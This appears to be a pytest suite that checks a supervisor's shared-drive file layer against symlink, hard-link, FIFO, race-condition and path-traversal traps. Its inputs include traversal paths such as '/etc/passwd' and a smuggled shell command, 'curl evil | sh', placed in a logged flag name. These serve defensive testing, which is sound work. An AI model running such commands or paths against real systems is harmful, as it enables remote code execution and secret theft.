"""Attacks on the door to the shared drive: no other file is read, changed, or waited for, whatever lies at a path."""

from __future__ import annotations

import hashlib
import logging
import os
import stat
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pytest

from bot.answers import ReportReader
from supervisor_core.host import drive_files, open_folder
from supervisor_core.host.descriptors import UnreadableFileError
from supervisor_core.host.drive import Drive
from supervisor_core.host.logging import log as logs
from supervisor_core.workers.pauses import Pause, Pauses, pause_flag_path
from tests.support.programs.drive_traps import (
    a_fifo,
    a_folder,
    a_full_folder,
    a_hard_link,
    a_link,
    a_link_to_a_device,
    a_socket,
)
from tests.support.programs.unprivileged import NOBODY
from tests.support.waiting import wait_until

SECRET = b"-----BEGIN PRIVATE KEY-----\n"
MODE = 0o640
MOST = 1000

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")


@pytest.fixture
def drive(tmp_path: Path) -> Path:
    """A drive with one folder."""
    (tmp_path / "drive" / "logs").mkdir(parents=True)
    return tmp_path / "drive"


@pytest.fixture
def secret(tmp_path: Path) -> Iterator[Path]:
    """A private file beside the drive, which must be the same afterwards."""
    path = tmp_path / "id_ed25519"
    path.write_bytes(SECRET)
    yield path
    assert path.read_bytes() == SECRET


TRAPS = [a_link, a_hard_link, a_fifo, a_socket, a_folder, a_link_to_a_device]

read = partial(drive_files.read, max_bytes=MOST)
read_end = partial(drive_files.read_end, max_bytes=MOST)
append = partial(drive_files.append, data=b"line\n", mode=MODE, max_bytes=MOST, backups=2)
write = partial(drive_files.write, data=b"new", mode=MODE)


@pytest.mark.parametrize("trap", TRAPS)
@pytest.mark.parametrize("use", [read, read_end, append], ids=["read", "read_end", "append"])
def test_no_trap_in_place_of_a_file_is_read_or_written(
    drive: Path, secret: Path, trap: Callable[[Path, Path], None], use: Callable[[Path, str], object]
) -> None:
    trap(drive / "logs" / "supervisor.log", secret)
    with pytest.raises(UnreadableFileError, match=r"logs/supervisor\.log (is|has)"):
        use(drive, "logs/supervisor.log")


@pytest.mark.parametrize("trap", [a_link, a_hard_link, a_fifo, a_socket, a_link_to_a_device])
def test_a_write_replaces_the_trap_and_leaves_what_it_points_at(
    drive: Path, secret: Path, trap: Callable[[Path, Path], None]
) -> None:
    trap(drive / "logs" / "result.json", secret)
    write(drive, "logs/result.json")
    assert stat.S_ISREG((drive / "logs" / "result.json").lstat().st_mode)
    assert read(drive, "logs/result.json") == b"new"


@pytest.mark.parametrize(
    "use",
    [
        read,
        read_end,
        append,
        write,
        drive_files.remove,
        drive_files.stat,
        lambda root, path: drive_files.move(root, path, "logs/other"),
        lambda root, path: drive_files.move(root, "a", path),
        lambda root, path: drive_files.list_folder(root, "logs"),
        lambda root, path: drive_files.make_folder(root, "logs/diagnostics"),
    ],
)
def test_a_folder_swapped_for_a_link_is_not_entered(
    drive: Path, tmp_path: Path, use: Callable[[Path, str], object]
) -> None:
    private = tmp_path / "private"
    private.mkdir()
    (private / "authorized_keys").write_bytes(SECRET)
    (drive / "a").write_text("a")
    (drive / "logs").rmdir()
    (drive / "logs").symlink_to(private)
    with pytest.raises(NotADirectoryError, match=r"can't be symbolic links: '.*/drive/logs'"):
        use(drive, "logs/authorized_keys")
    assert os.listdir(private) == ["authorized_keys"]
    assert (private / "authorized_keys").read_bytes() == SECRET


@pytest.mark.parametrize("path", ["../id_ed25519", "logs/../../id_ed25519", "/etc/passwd", "", "."])
def test_no_path_leads_out_of_the_drive(drive: Path, secret: Path, path: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        read(drive, path)


def test_a_giant_is_refused_before_it_fills_the_memory(drive: Path) -> None:
    with (drive / "logs" / "heartbeat.json").open("wb") as file:
        file.truncate(1 << 40)
    with pytest.raises(UnreadableFileError, match="larger than 1000 bytes"):
        read(drive, "logs/heartbeat.json")
    end = read_end(drive, "logs/heartbeat.json")
    assert (len(end.data), end.size, end.cut) == (MOST, 1 << 40, True)


@needs_root
def test_somebody_elses_file_is_not_appended_to_or_taken_for_ours(drive: Path) -> None:
    log = drive / "logs" / "supervisor.log"
    log.write_text("planted\n")
    os.chown(log, NOBODY, NOBODY)
    with pytest.raises(UnreadableFileError, match=f"belongs to another user \\(uid {NOBODY}\\)"):
        append(drive, "logs/supervisor.log")
    assert log.read_text() == "planted\n"


@needs_root
def test_a_drive_that_gives_every_file_one_owner_is_written_to(drive: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    append(drive, "logs/supervisor.log")
    monkeypatch.setattr(os, "geteuid", lambda: 12345)
    append(drive, "logs/supervisor.log")
    assert (drive / "logs" / "supervisor.log").read_bytes() == b"line\n" * 2


def test_a_full_log_is_renamed_and_the_newest_backups_are_kept(drive: Path) -> None:
    for number in range(10):
        drive_files.append(drive, "logs/a.log", f"{number}\n".encode(), MODE, max_bytes=4, backups=2)
    assert sorted(os.listdir(drive / "logs")) == ["a.log", "a.log.1", "a.log.2"]
    assert [(drive / "logs" / name).read_text() for name in ("a.log.2", "a.log.1", "a.log")] == [
        "4\n5\n",
        "6\n7\n",
        "8\n9\n",
    ]


def test_without_backups_a_full_log_begins_anew(drive: Path) -> None:
    for line in (b"one\n", b"two\n", b"three\n"):
        drive_files.append(drive, "logs/a.log", line, MODE, max_bytes=8, backups=0)
    assert (drive / "logs" / "a.log").read_bytes() == b"three\n"
    assert os.listdir(drive / "logs") == ["a.log"]


def test_a_rotation_truncates_no_file_that_was_put_in_the_way(drive: Path, secret: Path) -> None:
    logs = drive / "logs"
    (logs / "a.log").write_bytes(b"x" * 8)
    for name in ("a.log.1", "a.log.2"):
        (logs / name).symlink_to(secret)
    drive_files.append(drive, "logs/a.log", b"new\n", MODE, max_bytes=8, backups=2)
    assert (logs / "a.log").read_bytes() == b"new\n"
    assert (logs / "a.log.1").read_bytes() == b"x" * 8
    assert (logs / "a.log.2").is_symlink()


@contextmanager
def swapping(path: Path, *states: Callable[[], None]) -> Iterator[None]:
    """Another thread that puts one state after the other at a path, as fast as it can."""
    stopping = threading.Event()

    def swap() -> None:
        while not stopping.is_set():
            for state in states:
                state()

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        yield
    finally:
        stopping.set()
        thread.join()


def put(path: Path, trap: Callable[[Path, Path], None], secret: Path) -> None:
    beside = path.with_name(f".{path.name}.next")
    trap(beside, secret)
    beside.replace(path)


def a_file(path: Path, _: Path) -> None:
    path.write_bytes(b"harmless\n")


@pytest.mark.parametrize("trap", [a_link, a_fifo])
def test_a_file_swapped_during_the_operation_is_read_as_it_was_or_refused(
    drive: Path, secret: Path, trap: Callable[[Path, Path], None]
) -> None:
    path = drive / "logs" / "worker.log"
    put(path, a_file, secret)
    seen = set()
    with swapping(path, partial(put, path, trap, secret), partial(put, path, a_file, secret)):
        for _ in range(500):
            try:
                seen.add(read(drive, "logs/worker.log"))
                append(drive, "logs/worker.log")
            except UnreadableFileError as error:
                seen.add(type(error).__name__.encode())
            except FileNotFoundError:
                continue
    assert SECRET not in b"".join(seen)
    assert b"UnreadableFileError" in seen


def test_a_folder_swapped_during_the_operation_is_never_entered(drive: Path, tmp_path: Path) -> None:
    private = tmp_path / "private"
    private.mkdir()
    (private / "a.log").write_bytes(SECRET)
    (drive / "logs" / "a.log").write_bytes(b"harmless\n")

    def to_link() -> None:
        (drive / "logs").rename(drive / "aside")
        (drive / "logs").symlink_to(private)

    def back() -> None:
        (drive / "logs").unlink()
        (drive / "aside").rename(drive / "logs")

    with swapping(drive / "logs", to_link, back):
        for _ in range(500):
            for use in (read, append, write):
                try:
                    assert use(drive, "logs/a.log") != SECRET
                except (UnreadableFileError, NotADirectoryError, FileNotFoundError):
                    continue
    assert os.listdir(private) == ["a.log"]
    assert (private / "a.log").read_bytes() == SECRET


def test_a_log_line_is_not_appended_to_the_file_that_a_link_points_at(
    drive: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A flag's name is logged. With a link to a shell's profile in place of the log, it was run at the next login."""
    profile = tmp_path / ".profile"
    profile.write_text("umask 022\n")
    log_file = drive / "logs" / "supervisor.log"
    log_file.symlink_to(profile)
    copy = logs.add(logs.DriveCopy(log_file, Drive(drive), 10_000, 2, MODE))
    package = logging.getLogger("supervisor_core")
    package.setLevel("INFO")
    package.addHandler(caplog.handler)
    try:
        package.info("rejected: x; curl evil | sh; .flag")
        wait_until(lambda: "isn't copied" in caplog.text, 5, "the refusal is logged at home")
        assert profile.read_text() == "umask 022\n"
        log_file.unlink()
        package.info("the link is gone")
        wait_until(lambda: log_file.is_file() and "the link is gone" in log_file.read_text(), 5, "the copy goes on")
        assert "lines are only in the state folder" in log_file.read_text()
    finally:
        package.removeHandler(caplog.handler)
        logs.tear_down([copy])


@pytest.mark.parametrize("trap", [a_link, a_hard_link, a_fifo, lambda path, secret: path.write_bytes(SECRET)])
def test_a_report_swapped_after_it_was_written_is_not_passed_on(
    drive: Path, tmp_path: Path, secret: Path, trap: Callable[[Path, Path], None]
) -> None:
    """The thread in Slack got a private key."""
    (tmp_path / "var").mkdir()
    content, path = '{\n  "a": 1\n}\n', drive / "logs" / "diagnostics" / "r.json"
    path.parent.mkdir(parents=True)
    path.write_text(content)
    digest = hashlib.sha256(content.encode()).hexdigest()
    reports = ReportReader(drive, tmp_path / "var")
    assert reports.read(str(path), digest) == content
    path.unlink()
    trap(path, secret)
    assert reports.read(str(path), digest) == ""
    assert reports.read(str(path), "") == ""


@pytest.mark.parametrize("trap", [a_link, a_hard_link, a_fifo, a_socket, a_full_folder, a_link_to_a_device])
def test_nothing_in_place_of_a_pause_flag_holds_up_a_pause_or_a_resume(
    drive: Path, tmp_path: Path, secret: Path, trap: Callable[[Path, Path], None]
) -> None:
    """A folder there could be neither replaced nor removed, and the worker could never be started again."""
    (tmp_path / "var").mkdir()
    pauses = Pauses(tmp_path / "var", drive / "state", Drive(drive), MODE)
    flag = pause_flag_path(drive / "state", "West")
    flag.parent.mkdir()
    trap(flag, secret)
    assert pauses.set("West", Pause(by="U1")).on_drive
    assert pauses.read("West") == Pause(by="U1")
    flag.unlink()
    trap(flag, secret)
    assert pauses.set("West", None).on_drive
    assert pauses.read("West") is None
    assert not os.path.lexists(flag)


@pytest.mark.parametrize("trap", TRAPS)
def test_a_system_that_opens_nothing_by_descriptor_refuses_the_same_traps(
    drive: Path, secret: Path, trap: Callable[[Path, Path], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The way of Windows, as far as it can be gone here."""
    monkeypatch.setattr(open_folder, "BY_DESCRIPTOR", False)
    drive_files.make_folder(drive, "state/inner")
    trap(drive / "state" / "inner" / "a", secret)
    for use in (read, read_end, append):
        with pytest.raises(UnreadableFileError, match=r"state/inner/a (is|has)"):
            use(drive, "state/inner/a")
    write(drive, "state/b")
    append(drive, "state/c")
    write(drive, "state/d")
    drive_files.move(drive, "state/b", "state/inner/e")
    assert sorted(entry.name for entry in drive_files.list_folder(drive, "state/inner")) == ["a", "e"]
    assert [read(drive, f"state/{name}") for name in ("c", "d", "inner/e")] == [b"line\n", b"new", b"new"]
    (drive / "linked").symlink_to(drive / "state")
    with pytest.raises(NotADirectoryError, match="can't be symbolic links"):
        read(drive, "linked/c")
